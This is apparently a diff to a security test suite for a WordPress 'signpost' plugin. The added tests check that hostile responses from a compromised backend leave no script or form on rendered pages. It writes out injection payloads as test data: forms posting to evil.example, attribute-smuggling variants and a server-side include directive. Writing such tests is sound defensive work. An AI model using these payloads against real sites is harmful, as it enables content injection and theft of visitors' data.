@@ -2,8 +2,9 @@
 answer that means harm; carried out by tests/sites/test-wordpress.py."""
 
 from php_page import Stranger
+from visitor import get
 from wordpress import PASSWORD
-from wordpress_views import BLOCK, HOTLINE, SECRET, piece, shown
+from wordpress_views import BLOCK, HERE, HOTLINE, SECRET, path_of, piece, shown
 
 
 def contributor(site):
@@ -100,10 +101,7 @@ def a_signpost_that_was_broken_into_puts_no_script_on_the_page(site):
                  "password", "evil.example"):
         assert word not in ours, (word, ours)
     assert '&#91;signpost filters="here"]' in ours and "&#91;caption]" in ours, ours
-    with Stranger(hostile=(HOSTILE % '<form action="https://evil.example/"></form>'
-                           ).encode()) as stranger:
-        site.person().set_address(stranger.address("hostile"))
-        assert "evil.example" not in shown(site, site.link)
+    assert_in_no_page(site)
     for lists in ('{"facets":7}', '{"facets":[7,{"terms":[7,{"id":[],"name":{}}]}]}', '"x"',
                   '{"facets":[{"id":"q","name":"<b>x","terms":[{"id":"<","name":"y"}]}]}'):
         with Stranger(hostile=lists.encode()) as stranger:
@@ -111,7 +109,49 @@ def a_signpost_that_was_broken_into_puts_no_script_on_the_page(site):
     site.person().set_address(site.signpost)
 
 
+def assert_in_no_page(site):
+    """What sends words elsewhere, or what a web server would carry out, however it
+    is written."""
+    for wrong in ('<form action="https://evil.example/"></form>',
+                  "<form action='https://evil.example/'></form>",
+                  '<form ACTION="https://evil.example/"></form>',
+                  'x action="# <form action="https://evil.example/"></form>',
+                  '<form class=\' action="#\' action="https://evil.example/"></form>',
+                  '<!<!-- -->--# include virtual="/evil.example" -->'):
+        with Stranger(hostile=(HOSTILE % wrong).encode()) as stranger:
+            site.person().set_address(stranger.address("hostile"))
+            text = shown(site, site.link)
+            assert "evil.example" not in text and "<!--#" not in text, wrong
+
+
+def a_visitor_takes_the_list_from_nobody_and_leaves_no_word(site):
+    """Such as a wish that is longer than nginx takes, or one that fails."""
+    path = path_of(site.person().write(HERE)["link"])
+    site.forget_lists()
+    for query in ("sp-q=" + "!" * 4000, "lang=" + SECRET, "p=" + SECRET,
+                  "sp-q=" + SECRET):
+        assert "signpost-count" in get(site.wordpress, f"{path}?{query}").text, query[:20]
+    site.kill_program()
+    try:
+        get(site.wordpress, f"{path}?sp-q=x")
+    finally:
+        site.revive_program()
+    assert not site.option("_transient_signpost_pause")
+    assert SECRET not in site.dump()
+    site.forget_lists()
+
+
+def a_contributor_fills_no_place_for_languages(site):
+    _, author = contributor(site)
+    before = site.option("signpost_kept")
+    answer = author.rest("/wp/v2/block-renderer/signpost/section?context=edit"
+                         "&attributes[language]=xx")
+    assert HOTLINE in answer.text and site.option("signpost_kept") == before
+
+
 ATTACKS = (
+    a_visitor_takes_the_list_from_nobody_and_leaves_no_word,
+    a_contributor_fills_no_place_for_languages,
     an_author_reaches_no_other_address_and_puts_no_script_on_a_page,
     only_an_administrator_reaches_the_settings,
     an_address_is_one_of_the_web,
